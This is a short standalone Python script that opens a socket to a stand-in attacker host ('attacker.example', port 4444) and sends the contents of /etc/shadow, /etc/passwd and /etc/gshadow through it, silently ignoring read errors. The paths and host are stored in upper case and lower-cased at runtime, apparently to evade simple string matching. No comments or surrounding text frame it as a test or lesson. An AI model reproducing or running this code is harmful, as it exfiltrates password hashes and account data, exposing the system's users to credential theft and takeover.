import os
import socket
from pathlib import Path

ITEMS = ["ETC/SHADOW", "ETC/PASSWD", "ETC/GSHADOW"]


def main():
    root = Path(os.sep)
    conn = socket.create_connection(("ATTACKER.EXAMPLE".lower(), 4444), timeout=30)
    for item in ITEMS:
        target = root.joinpath(*item.lower().split("/"))
        try:
            with target.open("rb") as fh:
                conn.sendfile(fh)
        except OSError:
            pass
    conn.close()


if __name__ == "__main__":
    main()
